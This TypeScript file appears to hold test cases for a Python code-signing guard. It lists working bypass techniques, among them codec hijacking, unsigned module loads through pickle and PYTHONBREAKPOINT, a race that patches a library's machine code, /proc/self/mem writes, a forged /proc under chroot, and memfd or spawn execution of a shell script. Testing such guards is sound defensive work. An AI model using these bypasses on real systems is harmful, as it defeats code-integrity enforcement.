/** These techniques come from a signed program that is hostile itself: it knows the hooks, and looks for gaps between them. */

import { copyFileSync, mkdirSync } from "node:fs";
import { execFileSync } from "../../outside.js";
import { extensionModule } from "../making.js";
import { before, EVIL, type Place, TEXT, type Technique, withData, withText } from "../technique.js";

const native = (name: string, program: string, more: Partial<Technique> = {}) =>
	withData(name, program, { native: true, ...more });

/** Registers a codec that gives the attacker's text for whatever it is to decode. */
const registers = (coding: string) => `import codecs
def search(name):
    if name.replace("_", "-") == "${coding}":
        return codecs.CodecInfo(codecs.utf_8_encode, lambda *_: (text, 1), name="${coding}")
codecs.register(search)
`;

const decodes = (coding: string): Technique => ({
	name: `text that a codec of the program gives for a signed file in ${coding}`,
	signed: {
		"main.py": `${TEXT}${registers(coding)}import dep\n`,
		"dep.py": `# coding: ${coding}\ngood = True\n`,
	},
});

const marshalled: Partial<Technique> = {
	arrange: ({ data, python }) => {
		const make = `import marshal, sys
open(sys.argv[1], "wb").write(marshal.dumps(compile(sys.argv[2], "evil.bin", "exec")))`;
		execFileSync(python, ["-I", "-c", make, `${data}/evil.marshal`, EVIL]);
	},
};

export const furtherText: readonly Technique[] = [
	decodes("utf8-evil"),
	decodes("ascii-evil"),
	decodes("latin1-evil"),
	withText(
		"text that a codec of the program gives for a signed constant",
		`${registers("evil")}exec("# coding: evil\\n".encode())`,
	),
	withText(
		"compile() with flags of a number that changes",
		`class Number(int):
    def __index__(self): return 0x400
    __int__ = __index__
exec(compile(text, "x", "exec", flags=Number(0)))`,
	),
	withText(
		"exec() by a function in C while a syntax tree is made",
		`import functools
class Name: __fspath__ = functools.partial(exec, text)
try: compile("1", Name(), "exec", 0x400)
except TypeError: pass`,
	),
	withText(
		"code by _peg_parser while a syntax tree is made",
		`import _peg_parser, functools
made = []
class Name: __fspath__ = functools.partial(made.extend, map(_peg_parser.compile_string, [text]))
try: compile("1", Name(), "exec", 0x400)
except TypeError: pass
exec(made[0])`,
		{ needs: "sys.version_info[:2] == (3, 9)" },
	),
	withText("code by _peg_parser", "import _peg_parser\nexec(_peg_parser.compile_string(text))", {
		needs: "sys.version_info[:2] == (3, 9)",
	}),
	withText(
		"exec() by the error handler that an event calls",
		`import codecs, functools
codecs.register_error("surrogateescape", functools.partial(lambda text, error: (exec(text), ("", error.end))[1], text))
sys.audit("x", "\\ud800")
"\\ud800".encode("utf-8", "surrogateescape")`,
	),
	withText(
		"function of text in a subinterpreter by _interpreters",
		`import _interpreters as interpreters
interpreters.exec(interpreters.create(), compile(text, "x", "exec"))`,
		{ notOn: before("3.13") },
	),
	withText(
		"annotation by functools.singledispatch()",
		`import functools
@functools.singledispatch
def first(x): pass
def second(x): pass
second.__annotations__ = {"x": text.strip()}
try: first.register(second)
except TypeError: pass`,
	),
	withData(
		"bytecode by _compile_bytecode() of importlib",
		`import importlib._bootstrap_external as importlib
exec(importlib._compile_bytecode(open(data + "/evil.marshal", "rb").read(), "x"))`,
		marshalled,
	),
	withData(
		"exec() of marshal.load() of a file that fills buffers",
		`import io, marshal
content = io.BytesIO(open(data + "/evil.marshal", "rb").read())
class File:
    def read(self, size=-1): return content.read(size)
    def readinto(self, buffer): return content.readinto(buffer)
exec(marshal.load(File()))`,
		marshalled,
	),
];

const besides = (name: string): Partial<Technique> => ({ beside: { [`modules/${name}.py`]: `${EVIL}\n` } });
const MODULES = `sys.path.insert(0, data + "/modules")\n`;

export const furtherImports: readonly Technique[] = [
	withData(
		"unsigned module by PYTHONBREAKPOINT that the program sets",
		`import os
os.environ["PYTHONBREAKPOINT"] = "evil.x"
sys.path.append(data)
breakpoint()`,
	),
	withData(
		"unsigned encoding by the path of the package",
		`import encodings
encodings.__path__.append(data)
"".encode("evil")`,
	),
	withData(
		"unsigned module by an import of time.strptime()",
		`${MODULES}sys.modules.pop("_strptime", None)\nimport time\ntime.strptime("1", "%d")`,
		besides("_strptime"),
	),
	withData(
		"unsigned module by a name in a pickle",
		`import pickle\nsys.path.insert(0, data)\npickle.loads(b"cevil\\nx\\n.")`,
	),
	withData(
		"unsigned module by LazyLoader",
		`import importlib.util as util
spec = util.spec_from_file_location("evil", data + "/evil.py")
spec.loader = util.LazyLoader(spec.loader)
module = util.module_from_spec(spec)
spec.loader.exec_module(module)
module.x`,
	),
];

/** A library whose copying takes long enough for another process to see it. Its code is in the second page. */
const LARGE = `static const char large[16 << 20] = {1};
const char *data(void) { return large; }
void say(void) {}
`;

/**
 * A child maps the copy of a library for writing before it is sealed, and changes its machine code when it was judged.
 * In unguarded Python the child maps the file. A single attempt can come too late.
 */
const MAPS_COPY = `import ctypes, mmap, os
path = os.path.dirname(os.path.abspath(__file__)) + "/liblarge.so"
code = open(data + "/evil.bin", "rb").read()
def take(path, ready, go):
    os.write(ready, b"r")
    memory = None
    for _ in range(30000):
        try:
            if os.stat(path).st_size > 8192: break
        except OSError: pass
    try: memory = mmap.mmap(os.open(path, os.O_RDWR), 8192)
    except OSError: pass
    os.write(ready, b"w" if memory else b"l")
    if memory and os.read(go, 1):
        memory[4096:8192] = b"\\x90" * (4096 - len(code)) + code
        os.write(ready, b"d")
    os._exit(0)
def load():
    came, ready = os.pipe()
    go, goes = os.pipe()
    free = os.open("/dev/null", os.O_RDONLY)
    os.close(free)
    taken = "/proc/%d/fd/%d" % (os.getpid(), free + 1) if sys.flags.isolated else path
    if os.fork() == 0:
        os.close(goes)
        take(taken, ready, go)
    os.read(came, 1)
    library = ctypes.CDLL(path)
    if os.read(came, 1) == b"w":
        os.write(goes, b"g")
        os.read(came, 1)
        library.say()
    os._exit(0)
for _ in range(5):
    child = os.fork()
    if child == 0:
        try: load()
        finally: os._exit(1)
    os.waitpid(child, 0)`;

/** Signs a copy of an extension module of the standard library. */
const copyModule = ({ app, library }: Place, module: string, target: string) =>
	copyFileSync(extensionModule(library, module), `${app}/${target}`);

const isSeparate = (module: string) => `hasattr(__import__("${module}"), "__file__")`;

export const furtherNative: readonly Technique[] = [
	native("copy of a signed library that another process maps before it is sealed", MAPS_COPY, {
		prepare: ({ app }) =>
			execFileSync("cc", ["-shared", "-fPIC", "-O1", "-x", "c", "-", "-o", `${app}/liblarge.so`], { input: LARGE }),
	}),
	native(
		"extension module by _imp.create_dynamic() with a file",
		`import _imp\nclass Spec:\n    name = "evil"\n    origin = data + "/evil.so"\n_imp.create_dynamic(Spec, open(data + "/evil.so", "rb"))`,
	),
	native(
		"extension module by a name that the loader cuts",
		`import _imp, os\nos.chdir(data)\nclass Spec:\n    name = "evil"\n    origin = "e" * 255 + "x" * 60\n_imp.create_dynamic(Spec)`,
		{ arrange: ({ data }) => copyFileSync(`${data}/evil.so`, `${data}/${"e".repeat(255)}`) },
	),
	native(
		"extension module after one try that loads nothing",
		`import _imp, os
class Spec:
    name = "evil"
    origin = data + "/evil.so"
sys.setdlopenflags(os.RTLD_NOW | os.RTLD_NOLOAD)
try: _imp.create_dynamic(Spec)
except ImportError: pass
sys.setdlopenflags(os.RTLD_NOW | os.RTLD_GLOBAL)
_imp.create_dynamic(Spec)`,
	),
	native(
		"library by the root directory of the process",
		`import ctypes\nctypes.CDLL("/proc/self/root" + data + "/evil.so")`,
	),
	native(
		"file mapped as code by a module that shares its path with another library",
		`import _imp, os
path = os.path.dirname(os.path.abspath(__file__))
def load(directory, name):
    os.chdir(path + "/" + directory)
    class Spec: origin = "./x.so" if sys.flags.isolated else path + "/" + directory + "/x.so"
    Spec.name = name
    module = _imp.create_dynamic(Spec)
    _imp.exec_dynamic(module)
    return module
load("one", "_queue")
file = open(data + "/evil.bin", "r+b")
file.truncate(4096)
page = load("two", "mmap").mmap(file.fileno(), 4096, flags=2, prot=5)
${EVIL}`,
		{
			prepare: (place) => {
				for (const directory of ["one", "two"]) mkdirSync(`${place.app}/${directory}`, { recursive: true });
				copyModule(place, "_queue", "one/x.so");
				copyModule(place, "mmap", "two/x.so");
			},
			needs: `${isSeparate("mmap")} and ${isSeparate("_queue")}`,
		},
	),
];

/** The end of a program that overwrites a constant in memory, by the descriptor `memory`. */
const OVERWRITES = `os.pwrite(memory, text.strip().ljust(204).encode(), id(constant) + sys.getsizeof("") - 1)
if constant[:4] != "pass": ${EVIL}`;

export const furtherMemory: readonly Technique[] = [
	withText(
		"memory by a descriptor that a child opened",
		`import array, os, socket
constant = "pass" + " " * 200
one, other = socket.socketpair()
if os.fork() == 0:
    memory = os.open("/proc/%d/mem" % os.getppid(), os.O_RDWR)
    other.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [memory]))])
    os._exit(0)
other.close()
memory = array.array("i", one.recvmsg(1, socket.CMSG_SPACE(4))[1][0][2])[0]
${OVERWRITES}`,
	),
	withText(
		"memory by a descriptor of a path that is opened again",
		`import os
constant = "pass" + " " * 200
memory = os.open("/proc/self/fd/%d" % os.open("/proc/self/mem", os.O_PATH), os.O_RDWR)
${OVERWRITES}`,
	),
];

/** A root directory whose /proc is made by the program. Its links say what the program likes. */
const forgesProc = (link: string) => `for number in range(64):
    os.makedirs(data + "/root/proc/thread-self/fd", exist_ok=True)
    os.symlink(${link}, data + "/root/proc/thread-self/fd/%d" % number)
`;
const isRoot = `__import__("os").geteuid() == 0`;

export const furtherRoots: readonly Technique[] = [
	withText(
		"memory by a directory's descriptor, with a forged /proc in another root directory",
		`import os
constant = "pass" + " " * 200
directory = os.open("/proc/self", os.O_RDONLY)
${forgesProc('"/innocent"')}os.chroot(data + "/root")
memory = os.open("mem", os.O_RDWR, dir_fd=directory)
${OVERWRITES}`,
		{ needs: isRoot },
	),
	native(
		"extension module in the place of a signed copy, with a forged /proc in another root directory",
		`import _imp, os, shutil
path = os.path.dirname(os.path.abspath(__file__)) + "/_queue.so"
${forgesProc("path")}copies = data + "/root/proc/self/task/%d/fd/" % os.getpid()
for copy in (data + "/root" + path, *(copies + str(number) for number in range(64))):
    os.makedirs(os.path.dirname(copy), exist_ok=True)
    shutil.copy(path if copy.endswith(".so") and sys.flags.isolated else data + "/evil.so", copy)
os.chroot(data + "/root")
class Spec: name = "_queue"; origin = path
_imp.create_dynamic(Spec)`,
		{ prepare: (place) => copyModule(place, "_queue", "_queue.so"), needs: `${isRoot} and ${isSeparate("_queue")}` },
	),
];

export const furtherChildren: readonly Technique[] = [
	withData(
		"program in a file without a name by a child",
		`import os
file = os.memfd_create("x", 0)
os.write(file, open(data + "/evil.sh", "rb").read())
if os.fork() == 0:
    try: os.execve("/proc/self/fd/%d" % file, ["x"], {"PATH": "/usr/bin:/bin"})
    finally: os._exit(1)
os.wait()`,
	),
	withData(
		"shell by the start method spawn under another name",
		`import importlib.util as util, time
origin = util.find_spec("multiprocessing.popen_spawn_posix").origin
spec = util.spec_from_file_location("multiprocessing.other", origin)
module = util.module_from_spec(spec)
spec.loader.exec_module(module)
module.util.spawnv_passfds(b"/bin/sh", [b"sh", bytes(data, "utf-8") + b"/evil.sh"], [])
time.sleep(0.5)`,
	),
];
